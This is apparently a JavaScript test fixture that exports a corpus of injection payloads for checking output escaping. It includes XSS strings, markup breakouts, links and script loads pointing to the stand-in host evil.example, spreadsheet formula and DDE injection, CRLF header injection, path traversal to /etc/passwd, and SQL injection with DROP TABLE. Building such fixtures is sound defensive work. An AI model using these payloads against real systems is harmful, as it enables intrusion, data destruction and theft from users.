// Texts that want to be more than text. Whatever of them takes effect is seen in one of these ways: an
// element of class `pwn` stands on the page, `fired` is called, the content policy stops something, a
// header or cookie called `pwn` comes back, or a link leads to evil.example.

const script = [
  '<script>fired(1)</script>',
  '</script><script>fired(1)</script>',
  '"><script class=pwn>fired(1)</script>',
  "'><script class=pwn>fired(1)</script>",
  '<ScRiPt class=pwn>fired(1)</sCrIpT>',
  '<scr<script>ipt>fired(1)</scr</script>ipt>',
  '<script src=//evil.example/a.js></script>',
  '<img class=pwn src=x onerror=fired(1)>',
  '"><img class=pwn src=x onerror=fired(1)>',
  "' class=pwn onfocus=fired(1) autofocus='",
  '" class=pwn onmouseover="fired(1)',
  '" class="pwn" autofocus onfocus="fired(1)" x="',
  '<svg class=pwn onload=fired(1)>',
  '<svg><script class=pwn>fired(1)</script></svg>',
  '<math><mi class=pwn href="javascript:fired(1)">x',
  '<iframe class=pwn srcdoc="<script>parent.fired(1)</script>">',
  '<object class=pwn data="javascript:fired(1)">',
  '<details class=pwn open ontoggle=fired(1)>',
  '<body class=pwn onload=fired(1)>',
  '<template><b class=pwn></template><b class=pwn>',
  '`-fired(1)-`',
  '${fired(1)}',
  "';fired(1);//",
  '\\u003cscript\\u003efired(1)\\u003c/script\\u003e',
  '&lt;script&gt;fired(1)&lt;/script&gt;',
  '&#60;img class=pwn src=x onerror=fired(1)&#62;',
  '%3Cscript%3Efired(1)%3C%2Fscript%3E',
];

const markup = [
  '</textarea><b class=pwn>x',
  '</title><b class=pwn>x',
  '</option></select><b class=pwn>x',
  '</template></main><b class=pwn>x',
  '<!--><b class=pwn>x<!-- -->',
  '--><b class=pwn>x',
  ']]><b class=pwn>x',
  '<style class=pwn>*{display:none}</style>',
  '<link class=pwn rel=stylesheet href=//evil.example/a.css>',
  '<base class=pwn href=//evil.example/>',
  '<meta class=pwn http-equiv=refresh content="0;url=//evil.example">',
  '<form class=pwn action=//evil.example><button>Go',
  '<a class=pwn href=//evil.example>click',
  '[click](javascript:fired(1))',
  'javascript:fired(1)',
  'data:text/html,<script>fired(1)</script>',
  '{{constructor.constructor("fired(1)")()}}',
];

const elsewhere = [
  '=HYPERLINK("http://evil.example","x")',
  '=cmd|\' /C calc\'!A0',
  '+1+1|pwn',
  '@SUM(1+1)*pwn',
  '-2+3+cmd|pwn',
  'x\r\nSet-Cookie: pwn=1',
  'x\nBcc: all@evil.example',
  'x%0d%0aX-Pwn: 1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd%00.png',
  "' OR '1'='1",
  "x'; DROP TABLE users; --",
  '%s%n{0}{}',
  '‮nwp‬ pwn',
];

export const corpus = [...script, ...markup, ...elsewhere];
